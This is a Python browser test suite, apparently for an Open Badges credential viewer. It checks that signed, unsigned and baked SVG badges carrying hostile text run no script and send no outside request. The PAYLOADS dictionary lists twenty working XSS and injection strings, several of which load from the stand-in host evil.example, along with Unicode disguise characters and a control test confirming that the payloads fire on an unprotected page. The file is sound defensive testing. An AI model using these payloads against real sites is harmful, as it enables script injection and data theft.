"""Twenty hostile badges in a real browser: no script runs, no request leaves."""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING

import pytest

from lerway.standards.open_badges.baking import bake
from tests.browser.conftest import check, only_from
from tests.refusals import badge, edited, signed

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVIL = "https://evil.example"
RUN = "window.pwned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "img onerror": f"<img src=x onerror='{RUN}'>",
    "img from elsewhere": f"<img src='{EVIL}/pixel.png'>",
    "svg onload": f"<svg onload='{RUN}'><image href='{EVIL}/i.svg'/></svg>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>' src='{EVIL}'></iframe>",
    "attribute breakout": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute breakout, single": f"' autofocus tabindex=1 onfocus='{RUN}' x='",
    "title breakout": f"</title><script>{RUN}</script>",
    "textarea breakout": f"</textarea></pre></details><script>{RUN}</script>",
    "style": f"<style>@import '{EVIL}/s.css'; body{{background:url({EVIL}/b.png)}}</style>",
    "link and base": f"<link rel=stylesheet href={EVIL}/l.css><base href={EVIL}/>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "form": f"</form><form action={EVIL}/><button autofocus>Check it</button>",
    "markdown": f"[click](javascript:{RUN}) ![p]({EVIL}/m.png) <{EVIL}/>",
    "template": "{{ ''.__class__.__mro__ }}{% raw %}{{7*7}}${7*7}#{7*7}",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "object and embed": f"<object data='{EVIL}/o.swf'></object><embed src='javascript:{RUN}'>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
}
# What a reader sees must not be turned round or hidden either.
DISGUISE = "\u202e\u2066\u200b\u0000\u001b[31m\ufeff"


def badge_with(payload: str) -> bytes:
    """Return a badge that is hostile in every text, and properly signed."""
    alignment = {
        "type": ["Alignment"],
        "targetName": payload,
        "targetFramework": payload,
        "targetUrl": f"{EVIL}/t",
    }
    described = {
        "id": "urn:uuid:0b0c7e2e-6f0a-4d2c-9c39-3b7f0f6f0004",
        "type": ["ResultDescription"],
        "name": payload,
        "resultType": "Result",
    }
    named = {
        "type": "IdentityObject",
        "hashed": False,
        "identityHash": payload + DISGUISE,
        "identityType": "name",
    }
    subject = "credentialSubject"
    document = edited(
        badge(),
        ("name", payload),
        ("issuer/name", payload + DISGUISE),
        (f"{subject}/identifier", [named]),
        (f"{subject}/result", [
            {"type": ["Result"], "resultDescription": described["id"], "value": payload}
        ]),
        (f"{subject}/achievement/name", payload),
        (f"{subject}/achievement/achievementType", "Competency"),
        (f"{subject}/achievement/description", payload),
        (f"{subject}/achievement/criteria/narrative", payload),
        (f"{subject}/achievement/image", {"id": f"data:image/svg+xml,<svg onload='{RUN}'/>",
                                          "type": "Image"}),
        (f"{subject}/achievement/alignment", [alignment]),
        (f"{subject}/achievement/resultDescription", [described]),
        ("evidence", [
            {"id": f"{EVIL}/evidence", "type": ["Evidence"], "name": payload, "narrative": payload},
            {"id": f"{EVIL}/'onclick='{RUN}", "type": ["Evidence"], "description": payload},
        ]),
    )  # fmt: skip
    return json.dumps(signed(document, suite="eddsa-jcs-2022")).encode()


def unsigned_with(payload: str) -> bytes:
    """Return the same without its proof, and worse: what no issuer of ours would sign."""
    badge = json.loads(badge_with(payload))
    del badge["proof"]
    worse = copy.deepcopy(badge)
    worse["id"] = worse["issuer"]["id"] = f"javascript:{RUN}"
    worse["type"].append(payload)
    worse["evidence"] = [f"javascript:{RUN}", {"id": f"JaVaScRiPt:{RUN}", "name": payload}]
    worse["credentialStatus"] = {"id": payload, "type": payload, "statusListCredential": payload}
    worse[payload] = payload
    return json.dumps(worse).encode()


def poke(tab: Page) -> None:
    """Open every fold, hover and focus everything: whatever waits for that, wakes."""
    tab.evaluate("() => document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    tab.evaluate(
        """() => document.querySelectorAll('body *').forEach((e) => {
          for (const kind of ['mouseover', 'mouseenter', 'focus', 'error', 'load', 'toggle'])
            e.dispatchEvent(new Event(kind, {bubbles: true}));
        })"""
    )


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_script_runs_and_no_request_leaves(open_tab, server, name):
    payload = PAYLOADS[name]
    tab = open_tab("/nowhere")
    strays, handle = only_from(server.url)
    tab.context.route("**/*", handle)
    dialogs, errors = [], []
    tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    tab.on("pageerror", lambda e: errors.append(str(e)))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script></svg>' % RUN.encode()
    signed = badge_with(payload)
    given = [
        (payload[:80].replace("/", "_") or "x", "application/json", signed),
        ("unsigned.html", "text/html", unsigned_with(payload)),
        ("badge.svg", "image/svg+xml", bake(svg, signed.decode())),
        ("raw.html", "text/html", payload.encode()),
    ]
    for files in ([given[0]], [given[1]], given):
        tab.goto(server.url + "/")
        tab.fill("#text", payload if len(files) > 1 else "")
        check(tab, *({"name": n, "mimeType": m, "buffer": b} for n, m, b in files))
        poke(tab)
        assert tab.url == server.url + "/"
        assert tab.evaluate("window.pwned") is None
        assert tab.locator("main script, main img, main iframe, main style").count() == 0
        assert tab.locator("a[href^='javascript' i], form[action^='http']").count() == 0
        assert "\u202e" not in tab.inner_text("body")
    assert (strays, dialogs, errors) == ([], [], [])


def test_the_payloads_bite_where_nothing_protects(browser):
    """The control: put into a bare page, most of them run a script or call somebody."""
    bites = set()
    for name, payload in PAYLOADS.items():
        context = browser.new_context()
        strays, handle = only_from("http://nowhere.example")
        context.route("**/*", handle)
        tab = context.new_page()
        tab.set_content(f"<!doctype html><title>x</title><p title=x>{payload}", wait_until="commit")
        tab.wait_for_timeout(100)
        try:
            pwned = tab.evaluate("window.pwned")
        except Exception:  # noqa: BLE001 - it was led away
            pwned = True
        if pwned or strays:
            bites.add(name)
        context.close()
    assert len(bites) >= 12, sorted(bites)


def test_nothing_that_was_given_is_in_the_log(open_tab, server, records):
    tab = open_tab()
    for file in sorted(records.glob("file-*")):
        tab.goto(server.url + "/")
        check(tab, file)
    log = server.log.read_text("utf-8")
    assert len(log.splitlines()) == 2, log
    for said in ("Maya", "mail.example", "Oxbridge", "file-"):
        assert said not in log
